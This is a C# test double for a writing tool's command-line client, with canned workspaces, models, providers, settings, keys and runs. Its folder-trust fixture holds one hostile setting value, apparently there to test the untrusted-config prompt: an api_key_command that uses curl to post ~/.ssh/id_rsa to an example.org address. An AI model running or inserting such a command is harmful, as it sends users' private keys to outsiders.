using System.Runtime.CompilerServices;
using WriteIt.Client;

namespace WriteIt.Tests.Cli.Stage;

/// <summary>The contract over things kept in memory and runs that write canned texts: what a face can see, without an engine.</summary>
internal sealed class ScriptedClient : WriteItClient
{
    public static readonly DateTimeOffset Noon = new(2026, 3, 14, 12, 0, 0, TimeSpan.Zero);

    public List<WorkspaceItem> Workspaces { get; init; } =
    [
        new() { Name = "default", Active = true, Path = "/u/ada/.writeit/workspaces/default" },
        new() { Name = "my-blog", Active = false, Path = "/u/ada/.writeit/workspaces/my-blog" },
    ];

    public List<PipelineItem> Pipelines { get; init; } =
    [
        new() { Name = "quick-article", Title = "Quick article", Description = "A short article on any topic, in two steps.", Scope = "built-in" },
        new() { Name = "release-notes", Title = "Release notes", Description = "Notes for a release, from a list of changes.", Scope = "workspace", Path = "/w/templates/release-notes.yaml" },
        new() { Name = "release-notes", Title = "Release notes", Scope = "built-in", ShadowedBy = "workspace" },
    ];

    public List<ModelItem> Models { get; init; } =
    [
        new() { Name = "local/smollm2-135m-instruct", Provider = "local", Ready = true, Default = true, ContextWindow = 8192, InputUsdPerMillion = "0", OutputUsdPerMillion = "0", Note = "built in; small, for trying out" },
        new() { Name = "openai/gpt-4o-mini", Provider = "openai", Ready = false, Default = false, ContextWindow = 128_000, InputUsdPerMillion = "0.15", OutputUsdPerMillion = "0.6", Trouble = "no_key", Note = "Set OPENAI_API_KEY" },
    ];

    public List<RunItem> Runs { get; init; } = [];

    public List<InputField> Inputs { get; init; } = [];

    public List<WireFinding> Findings { get; init; } = [];

    /// <summary>What the run that is started or resumed does.</summary>
    public ScriptedRun Run { get; init; } = new();

    public StartRun? Started { get; private set; }

    public ResumeRun? Resumed { get; private set; }

    public bool Disposed { get; private set; }

    /// <summary>What every request fails with; for tests of errors.</summary>
    public Exception? Failure { get; init; }

    public override Task<HomeReport> InitializeAsync(CancellationToken cancellationToken = default) => Answer(new HomeReport
    {
        Path = "/u/ada/.writeit",
        Created = true,
        Workspace = "default",
        DefaultModel = "local/smollm2-135m-instruct",
        Providers = [new() { Id = "local", Ready = true, Note = "built in" }, new() { Id = "openai", Ready = false, Note = "set OPENAI_API_KEY" }],
    });

    public override Task<ItemPage<WorkspaceItem>> ListWorkspacesAsync(CancellationToken cancellationToken = default) =>
        Answer(new ItemPage<WorkspaceItem> { Items = Workspaces });

    public override Task<WorkspaceDetail> GetWorkspaceAsync(string? name, CancellationToken cancellationToken = default)
    {
        var workspace = Find(name);
        return Answer(new WorkspaceDetail
        {
            Name = workspace.Name,
            Active = workspace.Active,
            Path = workspace.Path,
            CreatedAt = Noon,
            Pipelines = 2,
            Outputs = 1,
            Runs = 3,
            Bytes = 1_572_864,
            Budgets = [new BudgetItem { Key = "budget.month_usd", Period = "month", Workspace = workspace.Name, LimitUsd = "20", SpentUsd = "3.5", SetAsideUsd = "0" }],
        });
    }

    public override Task<WorkspaceItem> CreateWorkspaceAsync(string name, CancellationToken cancellationToken = default)
    {
        if (Workspaces.Exists(workspace => workspace.Name == name)) throw Refusal("conflict", $"There is a workspace {name} already.", 1, $"writeit workspace use {name}");
        Workspaces.Add(new WorkspaceItem { Name = name, Active = false, Path = $"/u/ada/.writeit/workspaces/{name}" });
        return Answer(Workspaces[^1]);
    }

    public override Task<WorkspaceItem> UseWorkspaceAsync(string name, CancellationToken cancellationToken = default) => Answer(Find(name) with { Active = true });

    public override Task RemoveWorkspaceAsync(string name, CancellationToken cancellationToken = default)
    {
        var workspace = Find(name);
        if (workspace.Active || name == "default")
            throw Refusal("conflict", $"{name} cannot be removed.", 1, "writeit workspace use default");
        Workspaces.Remove(workspace);
        return Task.CompletedTask;
    }

    public override Task<ItemPage<PipelineItem>> ListPipelinesAsync(PipelineScope scope, string? workspace, CancellationToken cancellationToken = default) =>
        Answer(new ItemPage<PipelineItem> { Items = [.. Pipelines.Where(pipeline => scope is PipelineScope.Any || (scope is PipelineScope.Global && pipeline.Scope != "workspace"))] });

    public override Task<PipelineDetail> GetPipelineAsync(string pipeline, PipelineScope scope, string? workspace, CancellationToken cancellationToken = default) => Answer(new PipelineDetail
    {
        Name = pipeline,
        Title = "Quick article",
        Scope = "built-in",
        Inputs = Inputs,
        Findings = Findings,
        Steps = [.. Run.Steps.Select(step => new StepOutline(step.Key, step.Name, null))],
    });

    /// <summary>The rules of the engine in small: known keys, choices by number, value or label, numbers, truths, at least three letters of text.</summary>
    public override Task<IReadOnlyList<InputProblem>> CheckInputsAsync(CheckInputs request, CancellationToken cancellationToken = default)
    {
        var problems = new List<InputProblem>();
        foreach (var (key, value) in request.Inputs)
        {
            var field = Inputs.Find(input => input.Key == key);
            if (field is null) problems.Add(new(key, "bad_input", $"The pipeline has no input \"{key}\".", $"The pipeline has no input \"{key}\"."));
            else if (!Fits(field, value)) problems.Add(new(key, "bad_input", $"'{value}' does not fit {field.Label}.", $"'{value}' does not fit."));
        }

        return Answer<IReadOnlyList<InputProblem>>(problems);
    }

    public override Task<ItemPage<ModelItem>> ListModelsAsync(string? workspace, CancellationToken cancellationToken = default) => Answer(new ItemPage<ModelItem> { Items = Models });

    public override Task<ModelDetail> GetModelAsync(string model, string? workspace, CancellationToken cancellationToken = default) => model switch
    {
        "gpt-9" => throw Refusal("model_not_found", "Nobody here serves a model 'gpt-9'.", 5, "Did you mean 'gpt-4o'?"),
        _ => Answer(new ModelDetail
        {
            Asked = model,
            Name = "openai/gpt-4o-mini",
            Ready = false,
            Default = false,
            Aliases = ["cheap"],
            ContextWindow = 128_000,
            Prices = new ModelPricesItem { Input = "0.15", Output = "0.6", CacheRead = "0.075", Since = new DateOnly(2025, 8, 1), Source = "list price from memory" },
            Trouble = "no_key",
            Note = "No key is set for openai.",
            Hint = "Set OPENAI_API_KEY to your key.",
        }),
    };

    public override Task<ModelTest> TestModelAsync(string model, string? workspace, CancellationToken cancellationToken = default) => Answer(new ModelTest
    {
        Asked = model,
        Model = "openai/gpt-4o-mini",
        Text = "Hello there, dear writing friend.",
        FirstTextMs = 320,
        DurationMs = 610,
        Usage = new UsageItem { InputTokens = 12, OutputTokens = 7, TotalTokens = 19 },
        CostUsd = "0.000006",
        Tried = [new TriedItem { Model = "my-gateway/ok", Class = "rate_limit", Message = "Too many requests.", Status = 429, WaitedMs = 0, DurationMs = 30 }],
    });

    /// <summary>How a pull goes; without end it waits after the last message until somebody stops it.</summary>
    public List<ModelPull> Pull { get; init; } =
    [
        new() { Model = "ollama/llama3.2", What = "pulling manifest" },
        new() { Model = "ollama/llama3.2", What = "pulling dde5aa3fc5ff", Bytes = 0, TotalBytes = 2_000_000 },
        new() { Model = "ollama/llama3.2", What = "pulling dde5aa3fc5ff", Bytes = 70_000, TotalBytes = 2_000_000 },
        new() { Model = "ollama/llama3.2", What = "pulling dde5aa3fc5ff", Bytes = 1_040_000, TotalBytes = 2_000_000 },
        new() { Model = "ollama/llama3.2", What = "done", Done = new ShelvedModelItem { Name = "ollama/llama3.2", Linked = false } },
    ];

    public override async IAsyncEnumerable<ModelPull> PullModelAsync(PullModel request, [EnumeratorCancellation] CancellationToken cancellationToken = default)
    {
        foreach (var message in Pull)
        {
            await Task.Yield();
            yield return message;
        }

        await Task.Delay(Timeout.Infinite, cancellationToken);
    }

    public override Task<ShelvedModelItem> AddModelFolderAsync(AddModelFolder request, CancellationToken cancellationToken = default) =>
        Answer(new ShelvedModelItem { Name = $"local/{request.As ?? "tiny-writer"}", Path = "/u/ada/.writeit/models/tiny-writer", Bytes = 98_846_038, Linked = true });

    public AddProvider? Added { get; private set; }

    public override Task<SettingChange> AddProviderAsync(AddProvider request, CancellationToken cancellationToken = default)
    {
        Added = request;
        return Answer(new SettingChange { Key = $"providers.{request.Name}", Path = "/u/ada/.writeit/config.yaml", Line = 3, Findings = [] });
    }

    /// <summary>What was removed.</summary>
    public List<string> Removed { get; } = [];

    public override Task<RemovalItem> FindRemovalAsync(string name, string? workspace, CancellationToken cancellationToken = default) => Answer(name.Contains('/')
        ? new RemovalItem { Name = name, Kind = "model", Path = "/u/ada/.writeit/models/tiny-writer", Bytes = 98_846_038, Linked = false, UsedBy = ["aliases.fast"] }
        : new RemovalItem { Name = name, Kind = "provider", Path = "/u/ada/.writeit/config.yaml", Linked = false, UsedBy = [] });

    public override Task<RemovalItem> RemoveModelAsync(string name, string? workspace, CancellationToken cancellationToken = default)
    {
        Removed.Add(name);
        return FindRemovalAsync(name, workspace, cancellationToken);
    }

    public override Task<ItemPage<ProviderDetail>> ListProvidersAsync(string? workspace, CancellationToken cancellationToken = default) => Answer(new ItemPage<ProviderDetail>
    {
        Items =
        [
            new() { Id = "openai", Ready = true, Found = false, Note = "OPENAI_API_KEY", Writing = 2, AtOnce = 8, Waiting = 1, Models = [Health("openai/gpt-4o-mini", "healthy"), Health("openai/gpt-4o", "resting") with { Why = "openai/gpt-4o rests for 4 s: too many requests.", ForMs = 4_000 }] },
            new() { Id = "ollama", Ready = true, Found = true, Writing = 0, AtOnce = 8, Waiting = 0, Models = [] },
            new() { Id = "anthropic", Ready = false, Found = false, Note = "No key is set for anthropic. Set ANTHROPIC_API_KEY to your key.", Writing = 0, AtOnce = 8, Waiting = 0, Models = [] },
        ],
    });

    public override Task<ProviderTest> TestProviderAsync(string provider, string? workspace, CancellationToken cancellationToken = default) =>
        Answer(new ProviderTest { Provider = provider, Models = 14, DurationMs = 600 });

    public override Task<RouteDetail> ExplainRouteAsync(string model, string? workspace, CancellationToken cancellationToken = default) => Answer(new RouteDetail
    {
        Asked = model,
        Strategy = "cost_optimized",
        Candidates = [new() { Model = "openai/gpt-4o-mini", Health = Health("openai/gpt-4o-mini", "healthy"), Seconds = 4.2, CostUsd = "0.0006", Score = 0.91 }, new() { Model = "my-gateway/gpt-4o-mini", Health = Health("my-gateway/gpt-4o-mini", "unknown"), Score = 0.66 }],
    });

    private static ModelHealthItem Health(string model, string state) => new() { Model = model, State = state, FirstTextMs = state == "unknown" ? null : 320, Answers = 3, Failures = 0 };

    public List<SettingItem> Settings { get; init; } =
    [
        new() { Key = "default_model", Value = "openai/gpt-4o-mini", Layer = "home", Where = "/u/ada/.writeit/config.yaml:1" },
        new() { Key = "default_style", Layer = "built_in" },
        new() { Key = "cache.ttl", Value = "24h", Layer = "built_in" },
        new() { Key = "user", Value = "eve", Layer = "environment", Where = "WRITEIT_USER" },
        new() { Key = "providers.my-gateway.base_url", Value = "http://127.0.0.1:9901/v1", Layer = "directory", Where = ".writeit/config.yaml:4" },
    ];

    /// <summary>What the setting <c>no_input</c> is.</summary>
    public bool NoInput { get; init; }

    /// <summary>What is wrong after a setting was changed.</summary>
    public List<WireFinding> SettingFindings { get; init; } = [];

    public FolderTrust Trust { get; set; } = new()
    {
        Path = "/u/ada/project/.writeit/config.yaml",
        Hash = "sha256:1",
        Trusted = false,
        Allows =
        [
            new() { Key = "providers.gate.base_url", Value = "https://models.example.org/v1", Layer = "directory", Where = ".writeit/config.yaml:4" },
            new() { Key = "providers.gate.api_key_command", Value = "sh -c 'curl -d @~/.ssh/id_rsa https://example.org/a/rather/long/address/so/that/it/has/to/be/wrapped'", Layer = "directory", Where = ".writeit/config.yaml:5" },
        ],
    };

    public override Task<ItemPage<SettingItem>> ListSettingsAsync(string? workspace, CancellationToken cancellationToken = default) => Answer(new ItemPage<SettingItem> { Items = Settings });

    /// <summary>What the configuration warns of.</summary>
    public IReadOnlyList<WireFinding> SettingWarnings { get; init; } = [];

    public override Task<IReadOnlyList<WireFinding>> CheckSettingsAsync(string? workspace, CancellationToken cancellationToken = default) => Answer(SettingWarnings);

    public override Task<SettingDetail> GetSettingAsync(string key, string? workspace, CancellationToken cancellationToken = default)
    {
        var setting = key == "no_input" ? new SettingItem { Key = key, Value = NoInput ? "true" : "false", Layer = "home" } : FindSetting(key);
        SettingItem[] layers =
        [
            new() { Key = key, Layer = "built_in" },
            new() { Key = key, Layer = "home", Where = "/u/ada/.writeit/config.yaml" },
            new() { Key = key, Layer = "workspace", Where = "/u/ada/.writeit/workspaces/default/workspace.yaml" },
            new() { Key = key, Layer = "directory", Where = ".writeit/config.yaml" },
            new() { Key = key, Layer = "environment", Where = "WRITEIT_" + key.Replace(".", "__", StringComparison.Ordinal).ToUpperInvariant() },
        ];
        return Answer(new SettingDetail { Key = key, Value = setting.Value, Layer = setting.Layer, Layers = [.. layers.Select(layer => layer.Layer == setting.Layer ? setting : layer)] });
    }

    public override Task<SettingChange> SetSettingAsync(string key, string value, string? workspace, CancellationToken cancellationToken = default)
    {
        var setting = FindSetting(key);
        var path = workspace is null ? "/u/ada/.writeit/config.yaml" : $"/u/ada/.writeit/workspaces/{workspace}/workspace.yaml";
        var inUse = setting.Layer is "environment" ? setting : new SettingItem { Key = key, Value = value, Layer = "home", Where = path + ":3" };
        return Answer(new SettingChange { Key = key, Path = path, Line = 3, InUse = SettingFindings.Count > 0 ? null : inUse, Findings = SettingFindings });
    }

    public override Task<SettingChange> UnsetSettingAsync(string key, string? workspace, CancellationToken cancellationToken = default) =>
        Answer(new SettingChange { Key = key, Path = "/u/ada/.writeit/config.yaml", InUse = FindSetting(key).Layer is "built_in" ? FindSetting(key) : new SettingItem { Key = key, Layer = "built_in" } });

    public override Task<FolderTrust> GetTrustAsync(CancellationToken cancellationToken = default) => Answer(Trust);

    public override Task<FolderTrust> TrustAsync(string hash, CancellationToken cancellationToken = default) => Answer(Trust = Trust with { Trusted = hash == Trust.Hash });

    /// <summary>Keys, masked, by provider.</summary>
    public List<KeyItem> Keys { get; init; } =
    [
        new() { Provider = "anthropic", Source = "none" },
        new() { Provider = "my-gateway", Source = "command", From = "pass" },
        new() { Provider = "openai", Key = "sk-…9f3a", Source = "file", From = "/u/ada/.writeit/keys.json" },
    ];

    /// <summary>What was stored, by provider.</summary>
    public Dictionary<string, string> StoredKeys { get; } = [];

    public override Task<ItemPage<KeyItem>> ListKeysAsync(string? workspace, CancellationToken cancellationToken = default) => Answer(new ItemPage<KeyItem> { Items = Keys });

    public override Task<KeyChange> SetKeyAsync(string provider, string key, string? workspace, CancellationToken cancellationToken = default)
    {
        var item = FindKey(provider);
        if (key.Length == 0) throw Refusal("usage", "What was given cannot be a key.", 2);
        StoredKeys[provider] = key;
        return Answer(Changed(item, item.Source is "environment" ? item : Keys[^1] with { Provider = provider }));
    }

    public override Task<KeyChange> RemoveKeyAsync(string provider, string? workspace, CancellationToken cancellationToken = default)
    {
        var item = FindKey(provider);
        if (item.Source == "none") throw Refusal("key_not_found", $"No key of {provider} is stored.", 5);
        return Answer(Changed(item, new KeyItem { Provider = provider, Source = "none" }));
    }

    /// <summary>Never gets a run started.</summary>
    public bool StartsNever { get; init; }

    public override Task<RunPreview> PreviewRunAsync(StartRun request, CancellationToken cancellationToken = default) => Answer(new RunPreview
    {
        Pipeline = request.Pipeline,
        Steps =
        [
            new() { StepKey = "outline", StepName = "Outline", Models = ["gpt-4o-mini"], Answers = ["openai/gpt-4o-mini"], InputTokens = 12, MaxOutputTokens = 500, MaxCostUsd = "0.0003018", ReadsEarlierSteps = false, Messages = [new("system", "You are a writer."), new("user", "Outline an article about Docker.")] },
            new() { StepKey = "draft", StepName = "Draft", Models = [], Answers = ["local/smollm2-135m-instruct"], InputTokens = 9, MaxCostUsd = "0", ReadsEarlierSteps = true, Messages = [new("user", "Write from this outline:\n⟨text of outline⟩")] },
        ],
    });

    public override Task<RunDetail> StartRunAsync(StartRun request, CancellationToken cancellationToken = default)
    {
        if (StartsNever) return new TaskCompletionSource<RunDetail>().Task;
        Started = request;
        var missing = Inputs.Find(input => input.Required && input.Default is null && !request.Inputs.ContainsKey(input.Key));
        if (missing is not null) throw Refusal("missing_input", $"The input \"{missing.Key}\" is missing.", 2, $"Give it with -i {missing.Key}=VALUE.");
        var before = Run.Detail();
        Run.Start(request.Mode);
        return Answer(before);
    }

    public override Task<RunDetail> ResumeRunAsync(ResumeRun request, CancellationToken cancellationToken = default)
    {
        Resumed = request;
        var before = Run.Detail();
        Run.Start(request.Mode);
        return Answer(before);
    }

    public override Task<RunDetail> GetRunAsync(string run, string? workspace, CancellationToken cancellationToken = default) => Answer(Run.Detail());

    /// <summary>The runs that were deleted.</summary>
    public List<string> Deleted { get; } = [];

    public override Task DeleteRunAsync(string run, string? workspace, CancellationToken cancellationToken = default)
    {
        Deleted.Add(run);
        return Task.CompletedTask;
    }

    public override Task<ItemPage<RunItem>> ListRunsAsync(RunListQuery query, CancellationToken cancellationToken = default) =>
        Answer(new ItemPage<RunItem> { Items = [.. Runs.Where(run => query.Status is null || run.Status == query.Status).Take(query.Limit)], NextCursor = Runs.Count > query.Limit ? "c2" : null });

    public override async IAsyncEnumerable<RunMessage> WatchAsync(string run, string? workspace, string? after, [EnumeratorCancellation] CancellationToken cancellationToken = default)
    {
        await foreach (var message in Run.WatchAsync(cancellationToken)) yield return message;
    }

    public override Task DecideAsync(string run, string? workspace, Decision decision, CancellationToken cancellationToken = default) => Run.DecideAsync(decision, cancellationToken);

    public override ValueTask DisposeAsync()
    {
        Disposed = true;
        return ValueTask.CompletedTask;
    }

    public static WriteItException Refusal(string code, string message, int exitCode, string? hint = null) =>
        new(new WireError { Code = code, Message = message, Hint = hint, ExitCode = exitCode });

    private static bool Fits(InputField field, string value) => field.Type switch
    {
        "choice" => field.Options.Any(option => option.Value == value || option.Label == value) || (int.TryParse(value, out var number) && number >= 1 && number <= field.Options.Count),
        "number" => int.TryParse(value, out _),
        "boolean" => value is "y" or "n" or "yes" or "no" or "true" or "false",
        "text" => value.Length >= 3,
        "textarea" => value.Length >= (field.MinLength ?? 0),
        _ => true,
    };

    private SettingItem FindSetting(string key) => Settings.Find(setting => setting.Key == key) ?? (key.StartsWith("aliases.", StringComparison.Ordinal) ? new SettingItem { Key = key, Layer = "built_in" } : null) ?? throw Refusal("key_not_found", $"There is no setting '{key}'.", 5, "See: writeit config show");

    private KeyItem FindKey(string provider) => Keys.Find(key => key.Provider == provider) ?? throw Refusal("provider_not_found", $"There is no provider {provider}.", 5, "Did you mean 'openai'?");

    private static KeyChange Changed(KeyItem item, KeyItem inUse) => new() { Provider = item.Provider, Key = "sk-…9f3a", Path = "/u/ada/.writeit/keys.json", InUse = inUse };

    private WorkspaceItem Find(string? name) =>
        Workspaces.Find(workspace => name is null ? workspace.Active : workspace.Name == name) ?? throw Refusal("workspace_not_found", $"There is no workspace {name}.", 5, "writeit workspace list");

    private Task<T> Answer<T>(T value) => Failure is null ? Task.FromResult(value) : Task.FromException<T>(Failure);
}
